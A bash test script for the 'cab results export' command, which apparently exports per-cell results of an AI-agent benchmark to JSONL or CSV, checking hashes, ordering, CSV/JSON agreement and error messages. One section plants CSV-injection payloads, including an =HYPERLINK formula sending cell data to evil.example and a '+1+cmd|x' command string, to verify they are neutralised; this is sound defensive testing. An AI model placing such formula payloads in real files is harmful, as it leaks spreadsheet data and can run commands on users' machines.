#!/bin/bash
# cab results export on a tree of real cells: one JSON line (or CSV row) per
# cell, ordered by cell path, with every column of the index; every row
# carries the sha256 of the prompt (the task's workdir/README.md), of
# agent.log and of verify.log, recomputed here with sha256sum; --out writes
# the same bytes atomically; --attempts adds the attempt; bad options fail
# with one line.  'cab export' stays the image export.
# shellcheck disable=SC2016 # jq programs are quoted on purpose
# shellcheck source=../lib.sh
. "$(dirname "$0")/../lib.sh"
# shellcheck source=../fixtures/results/make-tree.sh
. "$TESTS_DIR/fixtures/results/make-tree.sh"

results_setup
OUT=$T/out
make_results_tree "$OUT" exp
n_json=$(find "$OUT" -name cell.json -not -path '*.attempt-*' | wc -l)

# JSONL (the default), straight from the tree: the index is built first.
run_cab "$T/cells.jsonl" results export "$OUT"
assert_rc 0 "results export exits 0"
[ -e "$OUT/results.db" ] && fail "export wrote results.db into the tree it read" || pass "nothing written into the tree"
CACHE_DB=$(sed -n 's/^cab: index: [0-9]* cells of .* indexed in //p' "$T/cells.jsonl.err")
assert_match "$CACHE_DB" "^$T/cache/cab/results/[0-9a-f]{32}\\.db\$" "one stderr line says where the index was built: the user's cache"
assert_eq "$(wc -l <"$T/cells.jsonl")" "$n_json" "one JSON line per cell ($n_json)"
assert_eq "$(jq -c . "$T/cells.jsonl" 2>/dev/null | wc -l)" "$n_json" "every line is JSON"
assert_eq "$(jq -r .cell_path "$T/cells.jsonl" | LC_ALL=C sort -c && echo sorted)" sorted "rows are ordered by cell path"
assert_eq "$(jq -s '[.[] | select((.prompt_sha256 | test("^[0-9a-f]{64}$")) and (.agent_log_sha256 | test("^[0-9a-f]{64}$"))
  and (.verify_log_sha256 | test("^[0-9a-f]{64}$")))] | length' "$T/cells.jsonl")" "$n_json" \
  "every row carries the three sha256 hashes"
assert_eq "$(jq -r 'keys_unsorted[0:9] | join(",")' "$T/cells.jsonl" | sort -u)" \
  "cell_id,sweep_id,tui,model_build_id,family,task_id,run,attempt,cell_path" "rows start with the run identity"
assert_eq "$(jq -s '[.[] | select(.attempt != null)] | length' "$T/cells.jsonl")" 0 "no attempt without --attempts"

# Recompute one row's hashes.
row=$(grep -F '"cell_path":"exp/oracle/cab/none/integrity/unsolvable-refusal/run-2"' "$T/cells.jsonl")
cell=$OUT/exp/oracle/cab/none/integrity/unsolvable-refusal/run-2
assert_eq "$(jq -r .agent_log_sha256 <<<"$row")" "$(sha256sum "$cell/agent.log" | cut -d' ' -f1)" \
  "agent_log_sha256 is sha256sum of agent.log"
assert_eq "$(jq -r .verify_log_sha256 <<<"$row")" "$(sha256sum "$cell/verify.log" | cut -d' ' -f1)" \
  "verify_log_sha256 is sha256sum of verify.log"
assert_eq "$(jq -r '[.prompt_sha256, .prompt_source] | join(" ")' <<<"$row")" \
  "$(sha256sum "$TASKS_ROOT/integrity/unsolvable-refusal/workdir/README.md" | cut -d' ' -f1) cell.json" \
  "prompt_sha256 is sha256sum of the task's workdir/README.md (recorded by run-cell in cell.json)"
assert_eq "$(jq -r .cell_json_sha256 <<<"$row")" "$(sha256sum "$cell/cell.json" | cut -d' ' -f1)" \
  "cell_json_sha256 is sha256sum of cell.json"
assert_eq "$(jq -c '[.tui, .model_build_id, .task_id, .run, .outcome, .pass, .blast_radius, .integrity]' <<<"$row")" \
  "$(jq -c '[.tui, .model_build_id, .task_id, .run, .outcome, .scorers.pass_rate.pass, .scorers.blast_radius.blast_radius, .scorers.integrity.integrity]' "$cell/cell.json")" \
  "identity and scores match cell.json"
assert_eq "$(jq -r .composite <<<"$row")" "$(jq -r .scorers.composite.composite "$cell/cell.json")" \
  "the composite is cell.json's, to the last digit"

# CSV: a header, then the same rows and hashes.
run_cab "$T/cells.csv" results export "$OUT" --format csv
assert_rc 0 "--format csv exits 0"
assert_eq "$(head -n1 "$T/cells.csv" | cut -d, -f1-4)" "cell_id,sweep_id,tui,model_build_id" "CSV header"
assert_eq "$(($(wc -l <"$T/cells.csv") - 1))" "$n_json" "one CSV row per cell"
python3 - "$T/cells.csv" "$T/cells.jsonl" >"$T/csvcheck" 2>&1 <<'PY'
import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
lines = [json.loads(l) for l in open(sys.argv[2])]
assert [r["cell_path"] for r in rows] == [l["cell_path"] for l in lines], "order"
for r, l in zip(rows, lines):
    assert list(r.keys()) == list(l.keys()), "columns"
    for k in ("prompt_sha256", "agent_log_sha256", "verify_log_sha256", "outcome", "tui", "task_id"):
        assert r[k] == l[k], (k, r[k], l[k])
    assert float(r["composite"]) == l["composite"], "composite round-trips"
    assert r["image_digest"] == "" and l["image_digest"] is None, "NULL is an empty field"
print("same")
PY
assert_eq "$(cat "$T/csvcheck")" same "CSV and JSONL agree: columns, order, hashes, exact composites, NULLs"

# CSV injection: a cell whose text fields are spreadsheet formulas (an agent
# or a task controls outcome_reason, ids and paths).  Every text cell that
# starts with = + - @ TAB or CR is exported with a leading single quote;
# numbers (a negative one included) stay numbers.
HOSTILE=$T/hostile
mkdir -p "$HOSTILE"
cp -a "$OUT/exp" "$HOSTILE/"
hc=$(find "$HOSTILE" -name cell.json -not -path '*.attempt-*' | head -n1)
jq '.outcome_reason = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" | .sweep_id = "+1+cmd|x" |
  .container_image = "-2+3" | .environment.scoring_profile = "@SUM(A1:A9)" | .environment.methodology_version = "\tTAB" |
  .tokens_source = "\r=1+1"' "$hc" >"$hc.new" && mv "$hc.new" "$hc"
run_cab "$T/hostile.csv" results export "$HOSTILE" --format csv
assert_rc 0 "export of a cell with formula fields exits 0"
python3 - "$T/hostile.csv" >"$T/hostile.check" 2>&1 <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
bad = [(k, v) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r"]
assert not bad, bad
r = [r for r in rows if r["outcome_reason"].startswith("'=HYPERLINK")]
assert len(r) == 1, [x["outcome_reason"] for x in rows]
r = r[0]
assert r["outcome_reason"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", r["outcome_reason"]
assert r["container_image"] == "'-2+3", r["container_image"]
assert r["scoring_profile"] == "'@SUM(A1:A9)", r["scoring_profile"]
assert r["methodology_version"] == "'\tTAB", repr(r["methodology_version"])
assert r["tokens_source"] == "'\r=1+1", repr(r["tokens_source"])
print("neutralised")
PY
assert_eq "$(cat "$T/hostile.check")" neutralised \
  "every text field starting with = + - @ TAB or CR gets a leading quote; the values are otherwise intact"

# --out FILE: the same bytes, written atomically; --attempts adds the attempt.
run_cab "$T/out.stdout" results export "$OUT" --out "$T/export.jsonl"
assert_rc 0 "--out exits 0"
assert_eq "$(wc -c <"$T/out.stdout")" 0 "nothing on stdout with --out"
if cmp -s "$T/export.jsonl" "$T/cells.jsonl"; then pass "--out FILE holds what stdout had"; else fail "--out FILE differs"; fi
assert_eq "$(find "$T" -maxdepth 1 -name 'export.jsonl.tmp-*' | wc -l)" 0 "no temp file left beside --out"
run_cab "$T/att.jsonl" results export "$OUT" --attempts
assert_eq "$(wc -l <"$T/att.jsonl")" "$((n_json + 1))" "--attempts: one more row"
assert_eq "$(jq -r 'select(.attempt != null) | [.attempt, .attempt_of, .outcome] | join(" ")' "$T/att.jsonl")" \
  "1 exp/nop/cab/none/polyglot/python-reverse-string/run-1 infra_error" "the attempt row says which cell it tried"

# Exporting a results.db directly.
run_cab "$T/db.jsonl" results export "$CACHE_DB"
if cmp -s "$T/db.jsonl" "$T/cells.jsonl"; then pass "export of results.db itself: the same rows"; else fail "export of results.db differs"; fi

# Bad options: one line each.
run_cab "$T/bad.out" results export "$OUT" --format xml
assert_rc 125 "--format xml exits 125"
assert_eq "$(cat "$T/bad.out.err")" "cab: results export: --format xml: expected jsonl or csv" "one clear line"
run_cab "$T/bad2.out" results frobnicate "$OUT"
assert_rc 125 "an unknown results command exits 125"
assert_eq "$(wc -l <"$T/bad2.out.err")" 1 "one line"
run_cab "$T/bad3.out" results export "$OUT" --out "$T/no/such/dir/x.jsonl"
assert_rc 125 "--out in a missing directory exits 125"
assert_match "$(cat "$T/bad3.out.err")" '^cab: --out .*/no/such/dir/x.jsonl: create a temporary file beside it: No such file or directory$' \
  "one line naming the file"
run_cab "$T/img.out" export --help
assert_match "$(cat "$T/img.out")" 'OCI image layout' "cab export is still the image export"
# ...and with --format, the issue's spelling of the results export.
run_cab "$T/via-export.csv" export "$OUT" --format csv
assert_rc 0 "cab export DIR --format csv exits 0"
if cmp -s "$T/via-export.csv" "$T/cells.csv"; then
  pass "cab export DIR --format csv is cab results export DIR --format csv"
else
  fail "cab export DIR --format csv differs from cab results export DIR --format csv"
fi

finish
